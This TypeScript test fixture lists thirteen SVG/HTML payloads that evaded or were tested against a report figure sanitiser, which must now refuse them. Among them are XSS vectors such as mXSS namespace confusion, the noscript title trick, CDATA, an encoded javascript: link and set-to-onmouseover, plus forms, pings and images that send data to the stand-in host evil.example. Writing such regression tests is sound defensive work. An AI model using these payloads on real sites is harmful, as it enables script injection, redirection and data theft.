/**
 * The report-sanitiser evasions of issue #17 item 5, reconstructed from the issue and the old tests:
 * SVG handed to a report's figure section that the old hand-written allow-list let through
 * (`acceptedBefore: true`, 9 of 13) or already refused. Each must now be refused by `assertSafeSVG`
 * and cleaned by `sanitizeSVG`.
 */
export interface Evasion {
  readonly name: string;
  readonly svg: string;
  /** Whether the hand-written allow-list before DOMPurify accepted it. */
  readonly acceptedBefore: boolean;
}

const ns = 'xmlns="http://www.w3.org/2000/svg"';

export const evasions: readonly Evasion[] = [
  {
    name: "meta http-equiv refresh after the svg (redirects when the report opens)",
    svg: `<svg ${ns}><rect width="4" height="4"/></svg><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
    acceptedBefore: true,
  },
  {
    name: "form action (sends data on click)",
    svg: `<svg ${ns}></svg><form action="https://evil.example/steal"><input name="q" value="secret"><button>Show more</button></form>`,
    acceptedBefore: true,
  },
  {
    name: "noscript title trick putting an onerror handler into the DOM",
    svg: `<svg ${ns}></svg><noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></p></noscript>`,
    acceptedBefore: true,
  },
  {
    name: "tracking image after the svg",
    svg: `<svg ${ns}></svg><img src="https://evil.example/pixel.png" alt="">`,
    acceptedBefore: true,
  },
  {
    name: "link ping (a request on click)",
    svg: `<svg ${ns}><a href="#x" ping="https://evil.example/track"><text>details</text></a></svg>`,
    acceptedBefore: true,
  },
  {
    name: "button formaction",
    svg: `<svg ${ns}></svg><button formaction="https://evil.example/" form="f">Next</button>`,
    acceptedBefore: true,
  },
  {
    name: "unclosed textarea swallowing the rest of the report",
    svg: `<svg ${ns}></svg><textarea>`,
    acceptedBefore: true,
  },
  {
    name: "use with a data:image/svg+xml document",
    svg: `<svg ${ns}><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJhbGVydCgxKSIvPg==#x"/></svg>`,
    acceptedBefore: true,
  },
  {
    name: "external paint server in fill=url(…)",
    svg: `<svg ${ns}><rect width="4" height="4" fill="url(https://evil.example/paint.svg#g)"/></svg>`,
    acceptedBefore: true,
  },
  {
    name: "javascript: link with an encoded tab",
    svg: `<svg ${ns}><a href="jav&#x09;ascript:window.__xss=1"><text>x</text></a></svg>`,
    acceptedBefore: false,
  },
  {
    name: "mXSS namespace confusion (math › mtext › table › mglyph › style)",
    svg: `<svg ${ns}></svg><math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>`,
    acceptedBefore: false,
  },
  {
    name: "CDATA hiding a tag",
    svg: `<svg ${ns}><![CDATA[<img src=x onerror=window.__xss=1>]]></svg>`,
    acceptedBefore: false,
  },
  {
    name: "set turning an attribute into an event handler",
    svg: `<svg ${ns}><set attributeName="onmouseover" to="window.__xss=1"/></svg>`,
    acceptedBefore: false,
  },
];
